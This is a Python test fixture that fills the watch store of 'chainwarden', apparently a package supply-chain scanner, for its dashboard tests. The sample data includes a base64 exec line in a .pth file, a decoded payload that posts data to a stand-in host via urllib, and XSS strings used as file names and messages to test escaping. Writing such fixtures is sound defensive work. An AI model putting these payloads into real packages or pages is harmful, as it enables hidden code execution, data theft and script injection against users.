"""A populated watch store for the dashboard tests (and its screenshots): one project, a blocked
release with a `.pth` payload, a finding whose file name is an HTML injection, and an alert."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from chainwarden.models import (
    ArtifactKind,
    ArtifactRef,
    ArtifactResult,
    DecodedStage,
    Evidence,
    Finding,
    Location,
    PackageMetadata,
    ScanReport,
    Severity,
    Trigger,
    Verdict,
)
from chainwarden.report.json import as_document
from chainwarden.watch.judge import alert_key

if TYPE_CHECKING:
    from chainwarden.watch.store import Store

HOSTILE_PATH = "<script>alert(1)</script>.py"
HOSTILE_MESSAGE = 'reads "<img src=x onerror=alert(2)>" at import'
PAYLOAD_PREVIEW = "import urllib.request, os; urllib.request.urlopen('https://models.litellm.invalid/', data=...)"
PROJECT = "/srv/llm-gateway"
DEPENDENCIES = [
    ("quietpkg", "1.0", ">=1.0", True),
    ("openai", "1.51.0", "==1.51.0", True),
    ("pydantic", "2.9.2", "==2.9.2", True),
    ("httpx", "0.27.2", "==0.27.2", False),
    ("anyio", "4.6.0", "==4.6.0", False),
    ("certifi", "2024.8.30", "==2024.8.30", False),
    ("idna", "3.10", "==3.10", False),
    ("requests", "2.32.3", "==2.32.3", True),
    ("urllib3", "2.2.3", "==2.2.3", False),
    ("tqdm", "4.66.5", "==4.66.5", False),
]


def _findings(name: str, version: str) -> tuple[Finding, ...]:
    artifact = f"{name}-{version}-py3-none-any.whl"
    return (
        Finding(
            rule_id="CW101",
            severity=Severity.CRITICAL,
            message="a .pth line runs code at every interpreter start: exec of base64-decoded data",
            location=Location(artifact, f"{name}_init.pth", 1),
            trigger=Trigger.INTERPRETER_START,
            evidence=Evidence(
                snippet="import os, base64; exec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0...'))",
                decoded=(DecodedStage("base64", PAYLOAD_PREVIEW),),
                detail=(("line", "1"),),
            ),
            capabilities=("dynamic-code", "network"),
            analyzer="pth",
            analyzer_version="1",
        ),
        Finding(
            rule_id="CW201",
            severity=Severity.HIGH,
            message=HOSTILE_MESSAGE,
            location=Location(artifact, HOSTILE_PATH, 3),
            trigger=Trigger.IMPORT,
            evidence=Evidence(snippet="</code></pre><script>alert(3)</script>"),
            analyzer="python",
            analyzer_version="1",
        ),
        Finding(
            rule_id="CW600",
            severity=Severity.HIGH,
            message=f"{version} adds {name}_init.pth, which executes code at interpreter start",
            location=Location(artifact, f"{name}_init.pth"),
            analyzer="diff",
            analyzer_version="1",
        ),
    )


def _record(store: Store, name: str, version: str, findings: tuple[Finding, ...], *, blocked: bool) -> int:
    result = ArtifactResult(
        ref=ArtifactRef(ArtifactKind.WHEEL, f"/cache/{name}-{version}.whl", f"{name}-{version}.whl"),
        metadata=PackageMetadata(name=name, version=version, summary="quiet helpers"),
        findings=findings,
    )
    report = ScanReport(tool_version="0.1.0", started="2026-03-24T10:53:00+00:00", results=(result,))
    blocking = tuple(f for f in findings if f.severity >= Severity.HIGH) if blocked else ()
    verdict = Verdict(blocked=blocked, threshold=Severity.HIGH, blocking=blocking)
    worst = max((f.severity for f in findings), default=None)
    top = min(findings, key=lambda f: f.sort_key) if findings else None
    summary = f"{top.rule_id} {top.severity.label}: {top.message}" if top else "nothing at or above high"
    alert = None
    if blocked:
        payload: dict[str, Any] = {
            "title": f"{name} {version} is blocked by policy: {summary}",
            "package": name,
            "version": version,
            "uploaded": "2026-03-24T10:52:00+00:00",
            "projects": [{"path": PROJECT, "pinned": "1.0", "spec": ">=1.0", "receives_it": True}],
            "what_changed": [f.message for f in findings if f.rule_id.startswith("CW6")],
            "findings": [
                {
                    "rule_id": f.rule_id,
                    "severity": f.severity.label,
                    "trigger": f.trigger.value,
                    "path": f.location.path,
                    "line": f.location.line,
                    "message": f.message,
                    "decoded": [s.method for s in f.evidence.decoded],
                }
                for f in findings
            ],
            "cooldown": {"holding": True, "until": "2026-03-31T10:52:00+00:00", "text": "the cooldown holds it back"},
            "advice": f"Do not upgrade {name} to {version}. Pin {name}!={version}.",
        }
        alert = (alert_key("release-blocked", name, version), "release-blocked", payload)
    return store.record_scan(
        name,
        version,
        started="2026-03-24T10:53:00+00:00",
        blocked=blocked,
        worst=worst.label if worst is not None else "",
        summary=summary,
        report=as_document(report, verdict),
        findings=[
            (
                f.rule_id,
                f.severity.label,
                f.trigger.value,
                f.location.path,
                f.location.line,
                f.message,
                f.evidence.snippet,
            )
            for f in findings
        ],
        alert=alert,
    )


def populate(store: Store) -> int:
    """Fill the store; returns the id of the alert about the blocked release."""
    store.upsert_project(PROJECT, DEPENDENCIES)
    store.add_release("requests", "2.32.4", "2026-03-20T08:00:00+00:00")
    _record(store, "requests", "2.32.4", (), blocked=False)
    store.add_release("tqdm", "4.66.6", "2026-03-21T08:00:00+00:00")
    low = Finding(
        rule_id="CW203",
        severity=Severity.MEDIUM,
        message="spawns a process at import",
        location=Location("tqdm", "tqdm/_monitor.py", 12),
        trigger=Trigger.IMPORT,
    )
    _record(store, "tqdm", "4.66.6", (low,), blocked=False)
    store.add_release("httpx", "0.28.0", "")  # seen, not scanned yet
    store.add_release("quietpkg", "1.1", "2026-03-24T10:52:00+00:00")
    _record(store, "quietpkg", "1.1", _findings("quietpkg", "1.1"), blocked=True)
    (alert,) = store.alerts(status="open")
    return alert.id
